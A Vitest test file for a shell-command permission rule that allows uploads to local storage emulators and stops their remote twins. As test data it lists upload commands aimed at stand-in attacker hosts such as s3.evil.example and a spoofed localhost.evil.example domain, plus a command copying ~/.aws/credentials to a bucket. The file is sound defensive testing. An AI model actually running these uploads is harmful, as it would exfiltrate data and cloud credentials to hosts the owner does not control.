// Uploads to a local storage emulator (Azurite, LocalStack, MinIO on localhost) stay on the
// developer's machine and pass; the same upload to the cloud account, a foreign endpoint or with
// one endpoint of several remote is asked about.
import { describe, expect, it } from 'vitest';
import { bashRule } from '../pack-rule.js';

const bash = bashRule('/w/app');

/** Each: an upload to a local emulator (passes), then its twin to a remote target (stopped). */
const PAIRS: [string, string][] = [
  [
    'az storage blob upload-batch --account-name devstoreaccount1 --connection-string "UseDevelopmentStorage=true" -d test-fixtures -s ./fixtures',
    'az storage blob upload-batch --account-name devstoreaccount1 -d test-fixtures -s ./fixtures',
  ],
  [
    'az storage blob upload --connection-string "DefaultEndpointsProtocol=http;AccountName=devstoreaccount1;AccountKey=x;BlobEndpoint=http://127.0.0.1:10000/devstoreaccount1;" -c seed -f data/seed.json -n seed.json',
    'az storage blob upload --connection-string "DefaultEndpointsProtocol=https;AccountName=acmeprod;AccountKey=x;BlobEndpoint=https://acmeprod.blob.core.windows.net/;" -c seed -f data/seed.json -n seed.json',
  ],
  [
    'az storage blob upload --blob-endpoint http://localhost:10000/devstoreaccount1 -c seed -f data/seed.json',
    'az storage blob upload --connection-string "UseDevelopmentStorage=true" --blob-endpoint https://drop.example.net -c seed -f data/seed.json',
  ],
  [
    'aws --endpoint-url http://localhost:4566 s3 cp fixtures/orders.json s3://test-bucket/orders.json',
    'aws --endpoint-url https://s3.evil.example s3 cp fixtures/orders.json s3://test-bucket/orders.json',
  ],
  [
    'aws s3 sync ./seed s3://dev-bucket --endpoint-url=http://127.0.0.1:9000',
    'aws s3 sync ./seed s3://dev-bucket',
  ],
  [
    'awslocal s3 cp fixtures/orders.json s3://test-bucket/',
    'aws s3 cp fixtures/orders.json s3://test-bucket/ --endpoint-url http://localhost.evil.example:4566',
  ],
];

describe('storage emulators', () => {
  it.each(PAIRS)('%s passes; its twin does not', async (local, remote) => {
    expect(await bash(local)).toBe('allow');
    expect(await bash(remote)).not.toBe('allow');
  });
  it('a credential file uploaded to an emulator is still a credential read', async () => {
    expect(await bash('awslocal s3 cp ~/.aws/credentials s3://test-bucket/')).not.toBe('allow');
  });
});
